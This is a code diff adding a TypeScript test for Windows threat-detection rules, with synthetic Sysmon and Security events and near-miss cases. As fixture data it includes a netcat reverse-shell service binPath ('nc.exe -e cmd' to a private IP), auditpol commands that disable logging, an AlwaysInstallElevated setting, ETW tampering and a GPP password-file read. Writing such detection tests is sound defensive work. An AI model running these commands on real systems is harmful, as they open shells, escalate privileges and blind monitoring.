@@ -382,6 +382,42 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(ps(22, 'Get-CimInstance Win32_Process | Select-Object Name'))).not.toContain('PowerShell Creates A Process Through WMI (script block 4104)');
   });
 
+  it('framework pipes, GPP files, audit and ETW tampering, AlwaysInstallElevated, service binPath, logon/boot/Active Setup entries, port scans', () => {
+    const S32 = 'C:\\Windows\\System32\\';
+    const set = (t: number, target: string, details: string): ReturnType<typeof makeEvent> =>
+      win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: target, Details: details });
+    const conn = (t: number, port: number, image = 'C:\\Users\\bob\\scan.exe'): ReturnType<typeof makeEvent> =>
+      win(t, ...SYSMON, 3, { Image: image, Initiated: 'true', DestinationIp: '10.0.0.5', DestinationPort: port });
+    const h = hits([
+      win(1, ...SYSMON, 17, { Image: `${S32}rundll32.exe`, PipeName: '\\postex_1a2b' }),
+      sec(2, 5145, { SubjectUserName: 'bob', ShareName: '\\\\*\\SYSVOL', RelativeTargetName: 'corp.example\\Policies\\{31B2F340}\\Machine\\Preferences\\Groups\\Groups.xml' }),
+      sysmon1(3, `${S32}auditpol.exe`, 'auditpol /set /category:"Logon/Logoff" /success:disable /failure:disable'),
+      set(4, 'HKLM\\System\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Security\\{54849625}\\Enabled', 'DWORD (0x00000000)'),
+      set(5, 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\Installer\\AlwaysInstallElevated', 'DWORD (0x00000001)'),
+      sysmon1(6, `${S32}sc.exe`, 'sc config upnphost binpath= "C:\\Users\\Public\\nc.exe -e cmd 10.0.0.9 4444"'),
+      set(7, 'HKU\\S-1-5-21-1-2-3-1001\\Environment\\UserInitMprLogonScript', 'C:\\Users\\bob\\a.bat'),
+      ...Array.from({ length: 25 }, (_, i) => conn(100 + i, 20 + i)),
+    ]);
+    expect(h.get('Named Pipe Of A Post-Exploitation Framework (Sysmon 17/18)')?.tactics).toContain('command-and-control');
+    expect(h.has('Named Pipe Created Or Connected (Sysmon 17/18)')).toBe(false);
+    expect(h.get('Group Policy Preference File Read Over SYSVOL')?.tactics).toEqual(['credential-access']);
+    expect(h.get('Audit Policy Disabled Or Cleared From The Command Line')?.level).toBe('high');
+    expect(h.get('Event Tracing Session Or Provider Disabled In The Registry')?.tactics).toEqual(['defense-impairment']);
+    expect(h.get('AlwaysInstallElevated Set')?.tactics).toContain('privilege-escalation');
+    expect(h.get('Service Program Changed From The Command Line')?.level).toBe('medium');
+    expect(h.get('Logon Script, Boot Execute Or Active Setup Entry Written')?.tactics).toContain('persistence');
+    expect(h.get('Many Destination Ports Contacted By One Process')).toEqual({ level: 'medium', tactics: ['discovery'] });
+    // The connections alone are not reported (the correlation does not generate its base rule's hits).
+    expect(h.has('Outbound Network Connection (Sysmon 3)')).toBe(false);
+    // Near misses: a PsExec pipe keeps its rule, a machine applying policy, auditpol /get, enabling a provider, the default BootExecute, one port many times.
+    expect(titlesOf(win(20, ...SYSMON, 17, { Image: 'C:\\Windows\\PSEXESVC.exe', PipeName: '\\PSEXESVC' }))).toEqual(['Named Pipe Created Or Connected (Sysmon 17/18)']);
+    expect(titlesOf(sec(21, 5145, { SubjectUserName: 'WKS01$', ShareName: '\\\\*\\SYSVOL', RelativeTargetName: 'x\\Groups.xml' }))).toEqual([]);
+    expect(titlesOf(sysmon1(22, `${S32}auditpol.exe`, 'auditpol /get /category:*'))).not.toContain('Audit Policy Disabled Or Cleared From The Command Line');
+    expect(titlesOf(set(23, 'HKLM\\System\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Security\\{54849625}\\Enabled', 'DWORD (0x00000001)'))).toEqual([]);
+    expect(titlesOf(set(24, 'HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\BootExecute', 'autocheck autochk *'))).toEqual([]);
+    expect(hits(Array.from({ length: 25 }, (_, i) => conn(i, 443, 'C:\\Program Files\\Browser\\b.exe'))).size).toBe(0);
+  });
+
   const crate = path.join(corpora, 'evtx', 'evtx-crate');
   it.skipIf(!existsSync(crate))('the benign captures give no high or critical built-in hit', () => {
     const files = readdirSync(crate).filter((f) => f.endsWith('.evtx'));
